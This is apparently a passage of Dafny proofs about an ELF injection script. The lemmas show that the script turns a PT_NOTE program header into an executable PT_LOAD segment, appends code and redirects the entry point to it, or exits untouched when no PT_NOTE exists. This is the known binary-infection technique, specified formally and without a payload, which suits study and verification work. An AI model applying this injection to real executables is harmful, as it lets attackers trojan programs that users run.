            var ph := ElfPy.ProgramHeader(k);
            |t| == |s| + |CODE| && t[|s|..] == CODE &&
            (forall i :: 0 <= i < |s| && !(base <= i < base + PhdrSize) && !(24 <= i < 32) ==> t[i] == s[i]) &&
            ElfPy.ReadMember(t, access, ph, "p_type") == Ok(PT_LOAD) &&
            ElfPy.ReadMember(t, access, ph, "p_flags") == Ok(PF_X + PF_R) &&
            ElfPy.ReadMember(t, access, ph, "p_offset") == Ok(|s|) &&
            ElfPy.ReadMember(t, access, ph, "p_vaddr") == Ok(Vaddr(|s|)) &&
            ElfPy.ReadMember(t, access, ph, "p_filesz") == Ok(|CODE|) &&
            ElfPy.ReadMember(t, access, ph, "p_memsz") == Ok(|CODE|) &&
            ElfPy.ReadMember(t, access, ph, "sh_align") == Ok(PAGE) &&
            ElfPy.ReadMember(t, access, ElfPy.ElfHeader, "e_entry") == Ok(Vaddr(|s|))
    ensures Vaddr(|s|) % PAGE == |s| % PAGE
  {
    InjectionIsInjected(s, access, k);
    InjectedBytes(s, access, k);
    InjectedEntry(s, access, k);
    InjectedKind(s, access, k);
    InjectedPlace(s, access, k);
    InjectedSizes(s, access, k);
    VaddrRange(|s|);
  }

  /** Without any PT_NOTE header, the script exits with code 2 and leaves the file alone. */
  lemma NoNoteExits(s: seq<byte>, access: Access, n: nat)
    requires ElfPy.TableSize(s, access, "e_phnum") == Ok(n)
    requires forall j :: 0 <= j < n ==> PType(s, access, j).Ok? && PType(s, access, j).value != PT_NOTE
    ensures InjectSpec(s, access) == (Exit(2), s)
  {
    NoNoteFound(s, access, n);
  }

  lemma {:induction false} NoNoteFound(s: seq<byte>, access: Access, n: nat)
    requires forall j :: 0 <= j < n ==> PType(s, access, j).Ok? && PType(s, access, j).value != PT_NOTE
    ensures LastNote(s, access, n) == Ok(None)
  {
    if n > 0 {
      NoNoteFound(s, access, n - 1);
    }
  }
}
